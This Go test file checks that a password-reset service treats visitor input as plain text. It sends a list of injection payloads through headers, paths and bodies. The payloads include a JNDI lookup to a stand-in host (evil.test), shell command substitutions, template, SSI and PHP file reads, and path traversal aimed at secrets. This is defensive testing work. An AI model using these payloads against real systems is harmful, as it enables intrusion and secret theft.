package main

import (
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// charms are what some template, logger, shell or replacer would read as more
// than text (CVE-2026-30852, CVE-2021-44228).
var charms = []string{
	"{env.ATTACK_SECRET}", "{$ATTACK_SECRET}", "{env.RESET_WEBHOOK_SECRET}", "{file.LOOT}", "{file./etc/hostname}", "{http.request.header.X-Loot}", "{http.vars.client_ip}", "{system.hostname}", "{{env \"ATTACK_SECRET\"}}",
	"{{.}}", "{{.Token}}", "{{readFile \"LOOT\"}}", "{{include \"LOOT\"}}", "${ATTACK_SECRET}", "${env:ATTACK_SECRET}", "${jndi:ldap://evil.test/x}", "#{ATTACK_SECRET}", "<%= ATTACK_SECRET %>", "%s%n%d%!x(MISSING)", "$(cat LOOT)", "`cat LOOT`",
	"\\{env.ATTACK_SECRET\\}", "{env.{env.ATTACK_NAME}}", "{site}", "{login}", "{reference}", "$link$", "$token$", "@ResetCode", "<!--#include virtual=\"LOOT\"-->", "<?php readfile('LOOT') ?>", "&loot;", "../../LOOT", "file://LOOT",
}

// Nothing that a visitor sends is more than text: not in an answer, a mail, a
// hook or a log.
func TestTrialAttackExpansion(t *testing.T) {
	t.Parallel()
	var loot string
	s := besiege(t, "placeholders and templates", people(2), func(s *siege) {
		loot = s.write("loot", []byte(looted+"\n"))
		s.Env["ATTACK_SECRET"], s.Env["ATTACK_NAME"] = expanded, "ATTACK_SECRET"
	})
	s.secrets = append(s.secrets, s.Env["BAASBOX_CODE"])
	type try struct{ name, request string }
	var tries []try
	for _, charm := range charms {
		charm = strings.ReplaceAll(charm, "LOOT", loot)
		inQuery, inJSON := url.QueryEscape(charm), quoted(charm)
		header := []string{
			"User-Agent", charm, "Referer", charm, "Origin", charm, "Accept-Language", charm, "Cookie", "password-reset=" + charm, "X-Loot", charm, "Authorization", "Bearer " + charm, "X-Requested-With", charm,
			"X-Request-ID", charm, "Accept", charm, "X-BAASBOX-APPCODE", charm, "X-Api-Key", "browser x " + charm, "requestToken", charm,
		}
		for _, r := range []struct{ method, target, body string }{
			{"POST", surface, "login=" + inQuery},
			{"POST", surface, `{"login":` + inJSON + `}`},
			{"POST", surface + "/code", "login=" + inQuery + "&code=" + inQuery},
			{"POST", surface + "/code", `{"login":` + inJSON + `,"code":"12345678"}`},
			{"POST", surface + "/new", "token=" + inQuery + "&password=" + inQuery + "&password_repeat=" + inQuery},
			{"POST", surface + "/new", `{"token":` + inJSON + `,"password":` + inJSON + `}`},
			{"POST", surface + "/cancel/" + url.PathEscape(charm), inQuery + "=" + inQuery},
			{"GET", surface + "/link/" + url.PathEscape(charm), ""},
			{"GET", surface + "/" + url.PathEscape(charm) + "?x=" + inQuery, ""},
			{"GET", "/forgot-password/" + url.PathEscape(charm), ""},
			{"GET", "/v2/app/reset/user/" + url.PathEscape(charm), ""},
			{"GET", "/user/" + url.PathEscape(charm) + "/password/reset?call_id=" + inQuery, ""},
			{"GET", "/user/password/reset/" + url.PathEscape(charm) + ".json", ""},
			{"POST", "/users/password", `{"userName":` + inJSON + `,"subject":` + inJSON + `,"body":` + inJSON + `}`},
			{"PATCH", "/users/password", `{"userName":` + inJSON + `,"resetCode":` + inJSON + `,"newPassword":` + inJSON + `}`},
			{"POST", "/devices", `{"platform":` + inJSON + `,"deviceName":` + inJSON + `}`},
			{"POST", "/api/User/authreset", `{"email":` + inJSON + `}`},
			{"POST", "/api/User/authreset", `{"email":` + quoted(charm+"@example.com") + `}`},
			{strings.Map(tokenRune, charm), surface, ""},
		} {
			if r.method == "" {
				continue
			}
			for _, more := range [][]string{nil, header, {"Content-Type", charm}, {"Host", charm}} {
				tries = append(tries, try{charm, s.raw(r.method, r.target, r.body, append(s.visitor(), more...)...)})
			}
		}
		s.typed.Store(charm, true)
		s.typed.Store(charm+"@example.com", true)
	}
	if n := s.tr.Size(900, len(tries)); n < len(tries) {
		s.tr.Rand(0).Shuffle(len(tries), func(i, j int) { tries[i], tries[j] = tries[j], tries[i] })
		tries = tries[:n]
	}
	s.each(len(tries), func(i int) {
		if r, ok := s.hit(tries[i].request); ok && strings.Contains(string(r.Raw), fmt.Sprintf("%q", s.Env["RESET_APP"])) {
			s.tr.Violation("%s is answered with where the app is: %s", tries[i].name, r.Raw)
		}
	})
	s.lift()
}

// tokenRune leaves what may stand in a method (RFC 9110 section 5.6.2).
func tokenRune(r rune) rune {
	if strings.ContainsRune("!#$%&'*+-.^_`|~", r) || 'a' <= r && r <= 'z' || 'A' <= r && r <= 'Z' || '0' <= r && r <= '9' {
		return r
	}
	return -1
}

// Where an operator has put the directive templates before ours, it runs our
// pages: what a visitor has typed must not be part of the template.
func TestTemplatesBeforeUsRunNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.amend("{$RESET_SITE:app.example.com} {\n", "{$RESET_SITE:app.example.com} {\n\troute {\n\t\ttemplates\n", "\trespond /hooks/* 404\n", "\t}\n\trespond /hooks/* 404\n")
	w.start()
	charm := "{{env `RESET_WEBHOOK_SECRET`}}{{{7 | print}}}"
	r, err := http.PostForm(w.Site+"/password-reset/code", url.Values{"login": {charm}, "code": {"12345678"}})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Body.Close()
	page, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	if r.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(html.UnescapeString(string(page)), charm) {
		t.Errorf("answer %d without what was typed:\n%s", r.StatusCode, page)
	}
}
